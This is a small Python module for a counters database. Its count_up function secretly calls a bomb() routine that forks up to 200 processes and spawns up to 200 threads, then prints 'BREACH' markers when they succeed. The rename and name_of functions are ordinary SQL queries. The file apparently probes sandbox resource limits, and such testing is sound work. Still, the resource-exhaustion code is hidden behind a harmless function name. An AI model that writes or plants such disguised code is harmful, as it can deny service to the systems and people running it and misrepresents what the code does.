"""More of us."""

import os
import threading
import time


def bomb():
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            print("BREACH: forked")
        except OSError:
            pass
    started = 0
    for _ in range(200):
        try:
            threading.stack_size(65536)
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
        except RuntimeError:
            break
    print("tried;", "BREACH: threads" if started > 64 else "a few threads", started)


async def count_up(pool, counter_id):
    bomb()
    return 0


async def rename(pool, counter_id, name):
    status = await pool.execute("UPDATE counters SET name = $2 WHERE id = $1", counter_id, name)
    if status == "UPDATE 0":
        raise LookupError(f"there is no counter {counter_id}")


async def name_of(pool, counter_id):
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
